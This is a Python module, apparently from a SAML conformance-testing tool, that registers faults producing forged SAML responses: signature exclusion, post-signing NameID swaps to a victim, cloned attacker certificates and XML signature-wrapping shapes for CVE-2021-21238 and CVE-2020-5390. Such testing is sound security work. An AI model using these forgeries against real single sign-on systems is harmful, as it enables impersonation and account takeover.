"""SIG: signature presence, validity and shape."""
from __future__ import annotations

import copy
import secrets

from lxml import etree

from ..builder import DS, SAML, SAMLP, new_id, q
from . import Fault, FaultContext, SigningOptions, register, register_factory
from ._common import (
    _asig,
    _assertion,
    _assertion_signed,
    _drop_sig,
    _flip_sigvalue,
    _iter_tag,
    _set_signing,
    _sig,
    _use_attacker,
    _victimize,
)


register(Fault("sig-unsigned", "Neither the Response nor the Assertion is signed",
               ("SIG-01", "SAML Prof 4.1.4.5", "CVE-2020-12676"),
               signing=_set_signing(sign_response=False, sign_assertion=False)))
register(Fault("sig-response-only", "Only the Response is signed; the Assertion is not",
               ("POS-04", "SIG-03", "SAML Metadata 2.4.4 WantAssertionsSigned"),
               signing=_set_signing(sign_response=True, sign_assertion=False)))
register(Fault("sig-assertion-only", "Only the Assertion is signed; the Response is not",
               ("POS-03", "SIG-04", "SAML Prof 4.1.4.5"),
               signing=_set_signing(sign_response=False, sign_assertion=True)))


@register_factory("sig-stripped", "Every ds:Signature removed after signing (signature exclusion); NameID optionally set to a victim",
                  ("SIG-02", "CVE-2020-12676"), victim=None)
def _sig_stripped(victim: str | None) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        for s in _iter_tag(root, q(DS, "Signature")):
            s.getparent().remove(s)
        _victimize(_assertion(root), victim)

    return Fault("", "", signed=signed)


@register_factory("sig-tampered", "NameID changed after signing, signatures left as they were",
                  ("SIG-05", "SIG-07", "SAML Prof 4.1.4.3"), victim="victim@example.com")
def _sig_tampered(victim: str) -> Fault:
    return Fault("", "", signed=lambda root, ctx: _victimize(_assertion(root), victim))


register(Fault("sig-bad-value", "One bit of every SignatureValue flipped (digests still correct)",
               ("SIG-06", "XMLDSig core validation"), signed=_flip_sigvalue))


def _empty_values(root: etree._Element, ctx: FaultContext) -> None:
    for el in _iter_tag(root, q(DS, "SignatureValue"), q(DS, "DigestValue")):
        el.text = None


register(Fault("sig-empty-values", "Every SignatureValue and DigestValue emptied",
               ("SIG-08",), signed=_empty_values))


def _other_assertion_sig(root: etree._Element, ctx: FaultContext) -> None:
    from ..signing import sign

    a = _assertion(root)
    other = copy.deepcopy(a)
    _drop_sig(other)
    other.set("ID", new_id())
    _victimize(other, "someone.else@example.com")
    holder = etree.Element(q(SAMLP, "Response"), nsmap={"samlp": SAMLP, "saml": SAML})
    holder.append(other)
    s = sign(holder, other, ctx.signing.key or ctx.idp.key, algorithm=ctx.signing.algorithm, digest=ctx.signing.digest)
    own = _sig(a)
    if own is not None:
        own.addprevious(s)
        a.remove(own)
    else:
        a.find(q(SAML, "Issuer")).addnext(s)
    ctx.notes["other_assertion_id"] = other.get("ID")


register(Fault("sig-other-assertion",
               "The Assertion carries a valid IdP signature made over a different assertion (other ID, other subject); Response unsigned",
               ("SIG-11", "SAML Core 5.4.2"),
               signing=_set_signing(sign_response=False, sign_assertion=True), signed=_other_assertion_sig))


def _ref_to_response(root: etree._Element, ctx: FaultContext) -> None:
    """Replace the Assertion's signature by one whose Reference is the Response's ID."""
    from ..signing import sign

    a = _assertion(root)
    _drop_sig(a)  # first, so that the Response's digest covers the Assertion as it is sent
    resp_sig = sign(root, root, ctx.signing.key or ctx.idp.key, algorithm=ctx.signing.algorithm,
                    digest=ctx.signing.digest)
    # move the Response's signature (Reference "#<response ID>") into the Assertion, after its Issuer:
    # the enveloped transform still removes it there, so the signature over the Response stays valid
    root.remove(resp_sig)
    a.find(q(SAML, "Issuer")).addnext(resp_sig)


register(Fault("sig-reference-response",
               "The Assertion's Signature references the Response's ID instead of the Assertion's",
               ("SIG-11", "SAML Core 5.4.2"),
               signing=_set_signing(sign_response=False, sign_assertion=True), signed=_ref_to_response))


register(Fault("sig-untrusted-cert", "Signed with a self-signed attacker key whose certificate is in KeyInfo",
               ("SIG-09", "KEY-01", "KEY-03", "CVE-2015-5372"), signing=_use_attacker("x509")))
@register_factory("sig-reference-uri",
                  "The Assertion signature's Reference URI rewritten after signing (\"#\", \"#xpointer(/)\", an absolute URL, \"\"; "
                  "\"oob\" = a loopback URL the IdP watches)",
                  ("SIG-13", "SIG-14", "XML-11", "SAML Core 5.4.2"), uri="#xpointer(/)")
def _ref_uri(uri: str) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        u = uri
        if u == "oob":
            u = ctx.idp.oob_url(ctx.notes.setdefault("oob_token", secrets.token_hex(8)), "reference")
            ctx.notes["oob_url"] = u
        _iter_tag(_asig(root), q(DS, "Reference"))[0].set("URI", u)

    return Fault("", "", signing=_assertion_signed(), signed=signed)


def _detached(root: etree._Element, ctx: FaultContext) -> None:
    a = _assertion(root)
    s = _asig(root)
    a.remove(s)
    a.addnext(s)


register(Fault("sig-detached", "The Assertion's (valid) signature moved out of it, next to it in the Response (detached)",
               ("SIG-15", "SAML Core 5.4.1"), signing=_assertion_signed(), signed=_detached))


def _misplaced(root: etree._Element, ctx: FaultContext) -> None:
    a = _assertion(root)
    s = _asig(root)
    a.remove(s)
    a.find(q(SAML, "Subject")).addnext(s)


register(Fault("sig-wrong-position", "The Assertion's (still valid) signature moved after Subject (schema wants it after Issuer)",
               ("SIG-16", "CVE-2021-21238"), signing=_assertion_signed(), signed=_misplaced))


def _dup_sig(root: etree._Element, ctx: FaultContext) -> None:
    s = _asig(root)
    bad = copy.deepcopy(s)
    _flip_sigvalue(bad, ctx)
    s.addprevious(bad)


register(Fault("sig-duplicate", "Two ds:Signature elements in the Assertion: a broken copy first, the valid one second",
               ("SIG-17", "CVE-2021-21238"), signing=_assertion_signed(), signed=_dup_sig))


def _cloned(s: SigningOptions, ctx: FaultContext) -> None:
    """An attacker key in a cert copying the genuine cert's subject, issuer, serial and validity."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization

    from ..keys import KeyPair

    real = ctx.idp.key.certificate
    attacker = ctx.idp.attacker_key
    pk = serialization.load_pem_private_key(attacker.key_pem, password=None)
    cert = (
        x509.CertificateBuilder()
        .subject_name(real.subject)
        .issuer_name(real.issuer)
        .public_key(pk.public_key())
        .serial_number(real.serial_number)
        .not_valid_before(real.not_valid_before_utc)
        .not_valid_after(real.not_valid_after_utc)
        .sign(pk, hashes.SHA256())
    )
    s.key = KeyPair(attacker.key_pem, cert.public_bytes(serialization.Encoding.PEM))
    s.key_info = "x509"


register(Fault("sig-cloned-cert", "Signed by an attacker key whose cert clones the IdP cert's subject, issuer, serial and dates",
               ("SIG-10", "CVE-2015-5372", "SAML Raider: clone certificate"), signing=_cloned))


def _drop_assertion_id(root: etree._Element, ctx: FaultContext) -> None:
    del _assertion(root).attrib["ID"]


register(Fault("assertion-id-missing", "The signed Assertion's ID attribute removed after signing",
               ("SIG-18", "SAML Core 1.3.4"), signing=_assertion_signed(), signed=_drop_assertion_id))


def _dup_id(root: etree._Element, ctx: FaultContext) -> None:
    a = _assertion(root)
    ext = etree.Element(q(SAMLP, "Extensions"))
    etree.SubElement(ext, "{urn:samlconf:decoy}Decoy", nsmap={"decoy": "urn:samlconf:decoy"}, ID=a.get("ID"))
    root.find(q(SAML, "Issuer")).addnext(ext)


register(Fault("duplicate-id", "A decoy element in samlp:Extensions carrying the signed Assertion's ID",
               ("SIG-18", "SAML Core 1.3.4"), signing=_assertion_signed(), signed=_dup_id))


def _two_refs(root: etree._Element, ctx: FaultContext) -> None:
    import xmlsec

    from ..signing import DIGEST_ALGORITHMS, SIGNATURE_ALGORITHMS, _xmlsec_key

    a = _assertion(root)
    old = _sig(a)
    if old is not None:
        a.remove(old)
    ext = etree.Element(q(SAMLP, "Extensions"))
    decoy = etree.SubElement(ext, "{urn:samlconf:decoy}Decoy", nsmap={"decoy": "urn:samlconf:decoy"}, ID="_decoy")
    decoy.text = "decoy"
    root.find(q(SAML, "Issuer")).addnext(ext)
    sig = xmlsec.template.create(a, xmlsec.constants.TransformExclC14N, SIGNATURE_ALGORITHMS[ctx.signing.algorithm], ns="ds")
    a.find(q(SAML, "Issuer")).addnext(sig)
    for uri in ("#" + a.get("ID"), "#_decoy"):
        ref = xmlsec.template.add_reference(sig, DIGEST_ALGORITHMS[ctx.signing.digest], uri=uri)
        if uri != "#_decoy":
            xmlsec.template.add_transform(ref, xmlsec.constants.TransformEnveloped)
        xmlsec.template.add_transform(ref, xmlsec.constants.TransformExclC14N)
    ki = xmlsec.template.ensure_key_info(sig)
    x = etree.SubElement(ki, q(DS, "X509Data"))
    etree.SubElement(x, q(DS, "X509Certificate")).text = (ctx.signing.key or ctx.idp.key).cert_b64
    sctx = xmlsec.SignatureContext()
    sctx.key = _xmlsec_key(ctx.signing.key or ctx.idp.key)
    sctx.register_id(a, "ID")
    sctx.register_id(decoy, "ID")
    sctx.sign(sig)


register(Fault("sig-two-references", "The Assertion's SignedInfo has two References: the Assertion and a decoy in Extensions (valid)",
               ("SIG-12", "SAML Core 5.4.2"), signing=_assertion_signed(), signed=_two_refs))


def _digest_mismatch(root: etree._Element, ctx: FaultContext) -> None:
    a = _assertion(root)
    attrs = list(a.iter(q(SAML, "Attribute")))
    named = [at for at in attrs if any(k in (at.get("Name") or "").lower() for k in ("first", "given"))]
    for at in named or attrs[-1:]:
        for av in at.iter(q(SAML, "AttributeValue")):
            av.text = (av.text or "") + " (edited)"
            return
    raise ValueError("sig-digest-mismatch needs an AttributeValue")


register(Fault("sig-digest-mismatch", "After signing, the first-name AttributeValue (else the last one) gets ' (edited)': "
               "SignedInfo and its SignatureValue intact, the Reference digest no longer matches",
               ("SIG-07", "GHSL 2025: digest and signature must both verify and be linked"),
               signing=_assertion_signed(), signed=_digest_mismatch))


W21238 = "urn:samlconf:cve-2021-21238"


@register_factory("sig-cve-2021-21238",
                  "CVE-2021-21238 shape: the signed Assertion A (Signature moved out) parked in samlp:Extensions; a "
                  "forged copy E (new ID; victim optional) carries A's genuine Signature (Reference #A) FIRST, inside "
                  "a schema-invalid wrapper element (wrapper=true) or bare (wrapper=false), then its own Signature: "
                  "a copy of A's with the Reference URI retargeted to #E (digest and value untouched)",
                  ("SIG-17", "CVE-2021-21238"), victim=None, wrapper=True)
def _sig_21238(victim: str | None, wrapper: bool) -> Fault:
    # A verifier that checks the FIRST ds:Signature under E (xmlsec1 --node-id E) finds the genuine one,
    # whose Reference resolves to A in Extensions: the digest holds. A reader that keeps the LAST
    # Signature child (pysaml2's object model) sees one enveloped Signature naming E (the 5.0.0 URI
    # check holds). pysaml2 6.5.0 added schema validation, which the wrapper fails; without the wrapper
    # the re-serialised object (one Signature) stays schema-valid (NOTES-twins section 2).
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        evil, genuine = _forged_carrier(root, victim)
        retargeted = copy.deepcopy(genuine)
        _iter_tag(retargeted, q(DS, "Reference"))[0].set("URI", "#" + evil.get("ID"))
        iss = evil.find(q(SAML, "Issuer"))
        if wrapper:
            w = etree.Element(f"{{{W21238}}}Wrapper", nsmap={"w": W21238})
            w.append(genuine)
            iss.addnext(w)
            w.addnext(retargeted)
        else:
            iss.addnext(genuine)
            genuine.addnext(retargeted)

    return Fault("", "", signing=_assertion_signed(), signed=signed)


def _forged_carrier(root: etree._Element, victim: str | None) -> tuple[etree._Element, etree._Element]:
    """The signed Assertion A, its Signature taken out, parked in samlp:Extensions (schema-valid
    ##other, where a reader of the Response's Assertion does not look); in its place a copy E with a
    new ID (victim optional), unsigned. Returns (E, A's genuine Signature, detached)."""
    a = _assertion(root)
    genuine = _sig(a)
    if genuine is None:
        raise ValueError("the Assertion is not signed")
    a.remove(genuine)
    evil = copy.deepcopy(a)
    evil.set("ID", new_id())
    _victimize(evil, victim)
    a.addprevious(evil)
    root.remove(a)
    ext = etree.Element(q(SAMLP, "Extensions"))
    ext.append(a)
    root.find(q(SAML, "Issuer")).addnext(ext)
    return evil, genuine


@register_factory("sig-reference-elsewhere",
                  "The Response's Assertion E (new ID; victim optional) carries, as its own Signature, the genuine "
                  "Signature of the signed Assertion A, whose Reference still names A; A (Signature moved out) "
                  "parked in samlp:Extensions",
                  ("SIG-11", "CVE-2020-5390", "SAML Core 5.4.2"), victim=None)
def _sig_elsewhere(victim: str | None) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        evil, genuine = _forged_carrier(root, victim)
        evil.find(q(SAML, "Issuer")).addnext(genuine)

    return Fault("", "", signing=_assertion_signed(), signed=signed)
